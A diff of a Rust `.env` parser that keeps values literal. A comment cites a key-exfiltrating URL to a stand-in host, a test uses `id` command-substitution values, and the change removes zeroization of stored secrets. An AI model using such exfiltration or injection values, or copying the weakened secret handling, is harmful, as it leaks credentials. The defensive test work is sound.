@@ -1,44 +1,42 @@
-//! `.env` files: read, never evaluated and never exported.
+//! Reads `.env` files.
 //!
-//! The well-kept parsers all replace `$NAME` in values by variables of the environment. Here that would let a hostile file ask
-//! for `TFY_BASE_URL=https://evil.test/$TFY_API_KEY`, so this reader takes every character as it stands.
+//! Other parsers replace `$NAME` in values with environment variables. A hostile file could then set
+//! `TFY_BASE_URL=https://evil.test/$TFY_API_KEY`. This parser never evaluates values.
 
 use std::collections::HashMap;
 use std::io;
 use std::path::Path;
 
-use zeroize::Zeroizing;
-
 use super::file;
 
-/// What a `.env` file holds. There may be a key in it, so there is no `Debug`.
+/// The variables in a `.env` file. It has no `Debug`, because it may contain an API key.
 #[derive(Default)]
 pub struct DotEnv {
-    values: HashMap<String, Zeroizing<String>>,
-    /// What a user should know about the file: it could not be read, or has lines that say nothing.
+    values: HashMap<String, String>,
+    /// Warning about a file that cannot be read, or about lines that are ignored.
     pub warning: Option<String>,
 }
 
 impl DotEnv {
-    /// Reads the file; one that is not there is empty, and one that cannot be read is empty with a warning.
+    /// Reads the file. A missing file is empty; an unreadable file is empty and has a warning.
     pub fn read(path: &Path) -> Self {
         let parsed = file::read(path).and_then(|bytes| {
-            let text = std::str::from_utf8(&bytes).map_err(|_| io::Error::other("it is not Unicode text"))?;
+            let text = std::str::from_utf8(&bytes).map_err(|_| io::Error::other("it is not valid UTF-8"))?;
             Ok(Self::parse(text))
         });
         match parsed {
             Ok(file) => file,
             Err(error) if error.kind() == io::ErrorKind::NotFound => Self::default(),
             Err(error) => Self {
-                warning: Some(format!(".env is passed over: {error}")),
+                warning: Some(format!("ignoring .env: {error}")),
                 ..Self::default()
             },
         }
     }
 
-    /// A variable's value; the last line that sets it counts.
+    /// The value of a variable. The last line that sets it counts.
     pub fn get(&self, name: &str) -> Option<&str> {
-        self.values.get(name).map(|value| value.as_str())
+        self.values.get(name).map(String::as_str)
     }
 
     fn parse(text: &str) -> Self {
@@ -49,7 +47,7 @@ impl DotEnv {
         while !rest.is_empty() {
             let (line, length) = statement(rest);
             if let Some((name, value)) = assignment(line) {
-                file.values.insert(name.to_owned(), value.to_owned().into());
+                file.values.insert(name.to_owned(), value.to_owned());
             } else if !line.trim().is_empty() && !line.trim_start().starts_with('#') {
                 broken.push(line_number.to_string());
             }
@@ -58,16 +56,13 @@ impl DotEnv {
         }
         if !broken.is_empty() {
             let lines = if broken.len() == 1 { "line" } else { "lines" };
-            file.warning = Some(format!(
-                ".env: {lines} {} passed over: not KEY=value",
-                broken.join(", ")
-            ));
+            file.warning = Some(format!("ignoring {lines} {} of .env: not KEY=value", broken.join(", ")));
         }
         file
     }
 }
 
-/// The next statement and how many bytes it takes with its line break: a line, or more where a quote spans them.
+/// Returns the next statement and its length in bytes with the line break. A quoted value may span several lines.
 fn statement(text: &str) -> (&str, usize) {
     let line_end = text.find('\n').unwrap_or(text.len());
     let line = &text[..line_end];
@@ -88,7 +83,7 @@ fn statement(text: &str) -> (&str, usize) {
     (line, (line_end + 1).min(text.len()))
 }
 
-/// The name and value of `NAME=value`, `export ` before it and quotes around the value taken off.
+/// Splits `NAME=value`, with an optional `export` before it, and removes the quotes around the value.
 fn assignment(line: &str) -> Option<(&str, &str)> {
     let line = line.trim();
     let exported = line.strip_prefix("export").filter(|rest| rest.starts_with([' ', '\t']));
@@ -101,7 +96,7 @@ fn assignment(line: &str) -> Option<(&str, &str)> {
     is_name.then(|| unquoted(value.trim()).map(|value| (name, value)))?
 }
 
-/// The value without its quotes or, where it has none, without a comment behind it.
+/// Removes the quotes around a value or, if it has none, the comment after it.
 fn unquoted(value: &str) -> Option<&str> {
     let Some(quote @ ('"' | '\'')) = value.chars().next() else {
         let end = value.find(" #").or_else(|| value.find("\t#")).unwrap_or(value.len());
@@ -123,7 +118,7 @@ mod tests {
     use super::*;
 
     #[test]
-    fn the_usual_forms_are_read() {
+    fn parse_reads_common_forms() {
         let file = DotEnv::parse(concat!(
             "# settings\r\n\nTFY_API_KEY = tfy_abc # mine\nexport TFY_BASE_URL=\"https://a.test\" # there\n",
             "SINGLE='a # b'\nEMPTY=\nTFY_API_KEY=tfy_def\nHASH=a#b\nPEM=\"one\ntwo\"\nLAST=x",
@@ -140,7 +135,7 @@ mod tests {
     }
 
     #[test]
-    fn nothing_is_evaluated() {
+    fn values_are_not_evaluated() {
         let file = DotEnv::parse("A=$HOME\nB=\"${HOME}\"\nC=`id`\nD=\"$(id)\"\nE=\\n");
         assert_eq!(file.get("A"), Some("$HOME"));
         assert_eq!(file.get("B"), Some("${HOME}"));
@@ -151,18 +146,18 @@ mod tests {
     }
 
     #[test]
-    fn broken_lines_are_counted_and_the_others_read() {
+    fn malformed_lines_are_ignored_with_warning() {
         let file = DotEnv::parse("A=1\nwhat is this\n=2\nB='open\nC=3\n");
         assert_eq!((file.get("A"), file.get("C")), (Some("1"), Some("3")));
         assert_eq!(
             file.warning.as_deref(),
-            Some(".env: lines 2, 3, 4 passed over: not KEY=value")
+            Some("ignoring lines 2, 3, 4 of .env: not KEY=value")
         );
     }
 
     proptest! {
         #[test]
-        fn no_file_makes_the_reader_panic(text in any::<String>(), lines in "([A-Z'\"=# \n]{0,60})") {
+        fn any_text_is_parsed_without_panic(text in any::<String>(), lines in "([A-Z'\"=# \n]{0,60})") {
             let _ = DotEnv::parse(&text);
             let _ = DotEnv::parse(&lines);
         }
